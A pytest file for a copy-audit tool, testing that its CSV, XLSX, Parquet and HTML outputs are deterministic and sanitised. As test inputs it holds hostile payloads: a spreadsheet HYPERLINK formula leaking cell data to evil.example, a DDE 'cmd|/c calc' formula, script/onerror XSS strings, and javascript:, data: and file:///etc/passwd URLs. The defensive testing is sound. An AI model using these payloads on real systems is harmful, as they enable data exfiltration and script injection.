"""The files of an audit: the same bytes each time, nothing in them that runs, all that was not judged listed."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace

import openpyxl
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, Phase, given, settings

from checker.audit.nouns import Outcome, Result
from checker.audit.problems import AuditProblem
from checker.cases.outputs import write_outputs
from checker.cases.table import read_cases
from checker.reports.cases_rows import CASES, PAGES, UNJUDGED
from checker.reports.cases_shell import is_of_the_web
from checker.reports.csv import TRIGGERS
from checker.reports.json import to_json
from fingerprints.errors import StorageFull
from tests.any_report import TEXTS, any_report
from tests.audited import CLOCK, FLOOD, NOTICE, OURS, audit, files, page, unread, words_of
from tests.test_cases_since import LICENSED

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"look")'
HOSTILE = "</title><script>alert(1)</script><img src=x onerror=alert(1)>\u202e\x1b[2J"


def copy(number, url, story=CLOCK, count=60, **more):
    return page(number, url, f"{OURS}\n\n{words_of(story, 45, count)}\n\n{OURS}", **more)


def some():
    """Pages of every kind."""
    half = copy(4, "https://lantern.example/half", FLOOD, why=("The second half is missing.",))
    return [
        copy(0, "https://lantern.example/a"),
        copy(1, "https://lantern.example/b", same_as=0),
        copy(2, "https://wick.example/licensed", policy=LICENSED),
        page(3, "https://echo.example/", f"{OURS}\n\n{NOTICE}"),
        half,
        unread(5, "https://wick.example/broken"),
        replace(unread(6, "https://wick.example/hung", "It took too long."), outcome=Outcome.UNJUDGED),
        page(7, "https://wick.example/clear", OURS, date=""),
    ]


@pytest.fixture
def folder(tmp_path):
    return audit(tmp_path / "cases", some())


def rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode(), newline=""), strict=True))


def test_what_was_written_is_told(folder):
    out = write_outputs(folder)
    assert (out.cases, out.by_severity, out.open, out.unjudged) == (3, {"error": 2, "warning": 1}, 3, 3)
    assert out.files[:5] == ("cases.parquet", "cases.csv", "cases.xlsx", "unjudged.csv", "summary.html")
    assert set(files(folder)) == set(out.files), "nothing else is left in the folder"


def test_the_same_results_give_the_same_bytes(tmp_path, folder):
    write_outputs(folder)
    other = audit(tmp_path / "elsewhere/cases", some(), chunk=3)
    write_outputs(other)
    first, second = files(folder), files(other)
    assert first.keys() == second.keys()
    assert [name for name in first if first[name] != second[name]] == []
    write_outputs(folder)
    assert files(folder) == first


def test_a_case_that_is_gone_leaves_no_page_behind(folder):
    (folder / "cases").mkdir()
    (folder / "cases/0123456789ab.html").write_text("of another time")
    (folder / "cases/notes.html").write_text("mine")
    write_outputs(folder)
    assert not (folder / "cases/0123456789ab.html").exists()
    assert (folder / "cases/notes.html").read_text() == "mine"


def test_every_text_that_was_not_judged_whole_is_listed_with_its_reason(folder):
    write_outputs(folder)
    listed = rows((folder / "unjudged.csv").read_bytes())
    assert tuple(listed[0]) == UNJUDGED
    assert [(one["number"], one["outcome"], one["verdict"], one["why"]) for one in listed] == [
        ("4", "judged", "flagged", "The second half is missing."),
        ("5", "unreadable", "", "It is cut in the middle."),
        ("6", "unjudged", "", "It took too long."),
    ]


def test_the_table_reads_back_as_the_cases(folder):
    write_outputs(folder)
    table = pq.read_table(folder / "cases.parquet").to_pylist()
    assert {(one["state"], one["change"]) for one in table} == {("open", "new")}
    assert [(one["rank"], one["outlet"]) for one in table] == [
        (1, "lantern.example"), (2, "lantern.example"), (3, "echo.example"),
    ]  # fmt: skip
    assert {one["id"] for one in table} == {case.id for case in read_cases(folder)}
    worst = next(one for one in table if one["family"] == CLOCK)
    assert [one["url"] for one in worst["pages"]] == ["https://lantern.example/a", "https://lantern.example/b"]
    assert worst["pages"][0]["passages"][0]["words"] == 60


def test_a_row_of_the_csv_is_a_case(folder):
    write_outputs(folder)
    raw = (folder / "cases.csv").read_bytes()
    assert raw.count(b"\r\n") == 4
    first = next(one for one in rows(raw) if one["family"] == CLOCK)
    assert tuple(first) == CASES
    assert first["worst_page"] == "https://lantern.example/a"
    assert (first["pages"], first["words_most"], first["words_sum"], first["severity"]) == ("2", "60", "120", "error")
    assert first["versions"] == f"{CLOCK} (lead)"


def hostile(report):
    """The same report with formulas and markup wherever an agency's text may stand."""
    (one,) = report.matches
    source = replace(one.source, title=FORMULA + HOSTILE, holder=FORMULA, version="@SUM(1)")
    return (replace(one, source=source, why=f"-1+1 {HOSTILE}", rule="+1"),)


def hostile_pages():
    from checker.reports.json import from_json, to_json

    found = copy(0, "javascript:alert(1)", title=f"{FORMULA}{HOSTILE}", place="\t=1+1")
    report = from_json(found.report)
    kept = replace(found, report=to_json(replace(report, matches=hostile(report))), site="=cmd|'/c calc'!a0")
    return [kept, unread(1, "@evil", why="=1+1"), replace(unread(2, "https://x.example/"), input="+1", place="\r=2")]


def test_no_cell_is_a_formula_for_any_spreadsheet(tmp_path):
    folder = audit(tmp_path / "cases", hostile_pages())
    write_outputs(folder)
    numbers = re.compile(r"-?\d+(\.\d+)?")
    for name in ("cases.csv", "unjudged.csv"):
        for row in rows((folder / name).read_bytes()):
            for cell in row.values():
                assert not cell.lstrip().startswith(tuple(TRIGGERS)) or numbers.fullmatch(cell), (name, cell)
                assert "\x1b" not in cell and "\u202e" not in cell
    book = openpyxl.load_workbook(folder / "cases.xlsx")
    assert book.sheetnames == ["Cases", "Pages", "Not judged"]
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type in ("n", "s", "inlineStr") and cell.hyperlink is None
            assert not str(cell.value).lstrip().startswith(tuple(TRIGGERS)), cell.value
    raw = zipfile.ZipFile(folder / "cases.xlsx")
    written = b"".join(raw.read(name) for name in raw.namelist()).lower()
    assert not re.search(rb"<f[ >]|<hyperlinks?[ >]|relationships/hyperlink", written)


def test_the_workbook_has_the_cases_their_pages_and_what_was_not_judged(folder):
    write_outputs(folder)
    book = openpyxl.load_workbook(folder / "cases.xlsx")
    found = {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book}
    for title, columns in (("Cases", CASES), ("Pages", PAGES), ("Not judged", UNJUDGED)):
        assert found[title][0] == tuple(name.replace("_", " ") for name in columns)
        assert book[title].freeze_panes == "A2" and book[title].auto_filter.ref
    assert [row[0] for row in found["Cases"][1:]] == [1, 2, 3]
    assert len(found["Pages"]) == 1 + 4 and len(found["Not judged"]) == 1 + 3
    assert found["Not judged"][2][UNJUDGED.index("number")] == 5


def test_hostile_titles_and_addresses_are_nothing_but_text(tmp_path):
    folder = audit(tmp_path / "cases", hostile_pages())
    write_outputs(folder)
    for name, raw in files(folder).items():
        if name.endswith(".html"):
            text = raw.decode()
            assert "<script" not in text and "<img" not in text and "\u202e" not in text and "\x1b" not in text
            assert "javascript:" not in "".join(re.findall(r'(?:href|src)="([^"]*)"', text))
            assert text.count("<title>") == 1 + text.count("<g><title>") + text.count('"><title>')


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " https://a.example/",
        "https://a.example/\n",
        "data:text/html,x",
        "file:///etc/passwd",
        "//a.example/",
        "https://user@a.example/",
        "https://",
        "http://[bad/",
        "ht\ttp://a.example/",
        "https://a.example/\u202egpj.exe",
        "",
    ],
)
def test_only_plain_addresses_of_the_web_are_links(url):
    assert not is_of_the_web(url)


def test_an_address_of_the_web_is_a_link():
    assert is_of_the_web("https://www.lantern.example/2001/06/clock?id=7&p=2#top")
    assert is_of_the_web("http://xn--bcher-kva.example/ä")


def test_an_address_with_quotes_cannot_leave_its_place(tmp_path):
    url = "https://lantern.example/\"onmouseover='alert(1)'<b>"
    folder = audit(tmp_path / "cases", [copy(0, url)])
    write_outputs(folder)
    (shown,) = (raw.decode() for name, raw in files(folder).items() if name.startswith("cases/"))
    assert 'href="https://lantern.example/&quot;onmouseover=&#x27;alert(1)&#x27;&lt;b&gt;"' in shown


def test_the_page_of_a_case_has_both_sides_and_what_differs(tmp_path):
    passage = words_of(CLOCK, 45, 60).split()
    passage[20] = "umbrella"
    folder = audit(tmp_path / "cases", [page(0, "https://lantern.example/a", f"{OURS}\n\n{' '.join(passage)}")])
    write_outputs(folder)
    (shown,) = (raw.decode() for name, raw in files(folder).items() if name.startswith("cases/"))
    assert "<ins>umbrella</ins>" in shown
    assert f"<del>{words_of(CLOCK, 65, 1)}</del>" in shown
    assert "59 words" in shown or "60 words" in shown
    assert shown.count("<blockquote") == 2
    assert '<a href="../summary.html">All cases</a>' in shown


def test_the_picture_has_its_counts(folder):
    write_outputs(folder)
    shown = (folder / "summary.html").read_text()
    assert "<h2>3 cases at 2 outlets</h2>" in shown
    tiles = dict(re.findall(r"<div><dt>([^<]+)</dt><dd>([\d,]+)</dd></div>", shown))
    assert tiles == {
        "Pages": "8", "repeated": "1", "flagged": "4", "clear": "2", "not judged whole": "3",
        "Cases": "3", "errors": "2", "warnings": "1", "still open": "3",
    }  # fmt: skip
    assert "1 text could not be read." in shown
    assert "1 text could not be judged; the next run tries them again." in shown
    assert "1 text could be judged only in part." in shown
    assert "lantern.example: 120 words of Stolen tower clock found ticking in museum&#x27;s own cellar" in shown
    assert "2001-06: 4 flagged" in shown
    for status in ("copied", "licensed", "notice"):
        assert f'<th scope="row">{status}</th>' in shown


def test_an_audit_that_found_nothing_says_so(tmp_path):
    folder = audit(tmp_path / "cases", [page(0, "https://wick.example/", OURS)])
    out = write_outputs(folder)
    assert (out.cases, out.unjudged) == (0, 0)
    shown = (folder / "summary.html").read_text()
    assert "<h2>No case in 1 page</h2>" in shown and "All of them were judged whole." in shown
    assert rows((folder / "cases.csv").read_bytes()) == [] == rows((folder / "unjudged.csv").read_bytes())


def test_with_three_hundred_outlets_the_network_shows_the_largest_and_sums_the_rest(tmp_path):
    one = copy(0, "https://o0.example/")
    pages = [replace(one, number=n, url=f"https://o{n}.example/", site=f"o{n}.example") for n in range(300)]
    write_outputs(audit(tmp_path / "cases", pages, chunk=64))
    shown = (tmp_path / "cases/summary.html").read_text()
    drawn = shown[shown.index('<svg class="network"') : shown.index("</svg>", shown.index('<svg class="network"'))]
    assert drawn.count('class="node"') == 17 + 1
    assert "284 other outlets: 17,040 words" in drawn
    assert int(re.search(r'height="(\d+)', drawn)[1]) < 900
    assert "275 other outlets" in shown, "in the table"


def test_a_report_that_cannot_be_read_is_named_and_keeps_the_others_from_nothing(tmp_path):
    damaged = replace(copy(0, "https://wick.example/"), report='{"schema": "other"}')
    folder = audit(tmp_path / "cases", [damaged, copy(1, "https://quay.example/")])
    outputs = write_outputs(folder)
    said = "The report of page 0 (site.warc.gz, record 1) in results/ cannot be read"
    assert (outputs.cases, outputs.unread) == (1, 1)
    assert any(remark.startswith(said) for remark in outputs.remarks)
    assert said in (folder / "unjudged.csv").read_text()
    assert "quay.example" in (folder / "cases.csv").read_text()


def test_damaged_or_missing_results_are_named(tmp_path, folder):
    (folder / "results/000001.parquet").write_bytes(b"PAR1")
    with pytest.raises(AuditProblem, match=r"000001\.parquet cannot be read: it is damaged, or its end is missing\."):
        write_outputs(folder)
    with pytest.raises(AuditProblem, match="There are no results in"):
        write_outputs(tmp_path)


@pytest.mark.parametrize("name", ["cases.csv", "cases.xlsx", "cases.parquet", "summary.html", "unjudged.csv"])
def test_a_full_disk_leaves_what_was_there(folder, monkeypatch, name):
    write_outputs(folder)
    before = files(folder)

    def full(path):
        if name in path.name:
            raise OSError(28, "No space left on device")

    monkeypatch.setattr("checker.audit.whole.to_disk", full)
    with pytest.raises(StorageFull, match=rf"The disk is full: \S*{name}\S* was not written\."):
        write_outputs(folder)
    assert files(folder) == before


def test_where_a_link_leads_no_page_is_written_or_deleted(tmp_path, folder):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere/0123456789ab.html").write_text("mine")
    (folder / "cases").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(AuditProblem, match="is a link; nothing is written or deleted where it leads"):
        write_outputs(folder)
    assert [one.name for one in (tmp_path / "elsewhere").iterdir()] == ["0123456789ab.html"]


def test_of_a_case_of_very_many_pages_the_worst_are_shown_and_all_are_counted(tmp_path):
    one = copy(0, "https://lantern.example/0")
    pages = [replace(one, number=n, url=f"https://lantern.example/{n:03}", id="") for n in range(1030)]
    folder = audit(tmp_path / "cases", pages, chunk=500)
    write_outputs(folder)
    (shown,) = (raw.decode() for name, raw in files(folder).items() if name.startswith("cases/"))
    assert shown.count('<article class="page"') == 25 and "And 30 more: cases.xlsx" in shown
    assert "The passages of 1,005 more pages are in the results." in shown
    (case,) = read_cases(folder)
    assert (case.page_count, len(case.pages), case.words_sum) == (1030, 1030, 1030 * 60)


@settings(
    max_examples=40, deadline=None, suppress_health_check=list(HealthCheck), phases=(Phase.explicit, Phase.generate)
)
@given(found=any_report(), title=TEXTS, url=TEXTS)
def test_whatever_a_report_holds_the_files_can_be_written_and_read(tmp_path_factory, found, title, url):
    text = to_json(found)
    base = tmp_path_factory.mktemp("any")
    one = Result(0, 0, Outcome.JUDGED, "in", "place", "name", "id", report=text, title=title, url=url, site=url)
    folder = audit(base / "cases", [one, replace(one, number=1, digest="other")])
    out = write_outputs(folder)
    cases = list(read_cases(folder))
    assert len(cases) >= out.cases
    assert {f"cases/{case.id}.html" for case in cases} == {name for name in out.files if name.startswith("cases/")}
    for name in out.files:
        if name.endswith((".html", ".csv")):
            shown = (folder / name).read_bytes().decode()
            assert "<script" not in shown and "\x1b" not in shown and "\0" not in shown
    openpyxl.load_workbook(folder / "cases.xlsx", read_only=True).close()


def test_a_link_in_the_folder_is_replaced_and_not_followed(tmp_path, folder):
    (tmp_path / "elsewhere").write_text("mine")
    (folder / "cases.csv").symlink_to(tmp_path / "elsewhere")
    write_outputs(folder)
    assert (tmp_path / "elsewhere").read_text() == "mine"
    assert not (folder / "cases.csv").is_symlink()
